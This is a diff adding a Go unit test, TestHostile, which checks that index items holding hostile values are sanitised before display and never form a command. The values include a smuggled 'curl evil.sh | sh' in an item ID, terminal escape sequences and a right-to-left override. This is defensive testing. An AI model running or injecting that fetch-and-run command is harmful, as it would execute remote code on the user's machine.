@@ -309,3 +309,27 @@ func TestCluster(t *testing.T) {
 		t.Error(diff)
 	}
 }
+
+// TestHostile: what anybody may have written into the index neither drives
+// a terminal nor becomes part of a command.
+func TestHostile(t *testing.T) {
+	m := memory(
+		index.Item{ID: "m-1; curl evil.sh | sh", Text: "Run the tests before pushing", Domain: "a\x1b[2J", Tags: []string{"b\u202e"}},
+		index.Item{ID: "m-\x1b[2J", Text: "Always run tests before you push\x1b]0;x\x07"},
+	)
+	list := pending(t, m)
+	if len(list) != 1 {
+		t.Fatal(names(list))
+	}
+	p := list[0]
+	shown := strings.Join(slices.Concat(p.Notes, p.Tags, []string{p.Title, p.Text, p.Domain}), "\n")
+	if strings.ContainsAny(shown, "\x1b\x07\u202e") || strings.Contains(shown, "mem supersede") {
+		t.Errorf("shown:\n%q", shown)
+	}
+	if _, err := desk.Reject(m, p.ID, proposal.Decision{}); err != nil {
+		t.Fatal(err)
+	}
+	if left := pending(t, m); len(left) != 0 {
+		t.Errorf("told apart, and offered again: %v", names(left))
+	}
+}
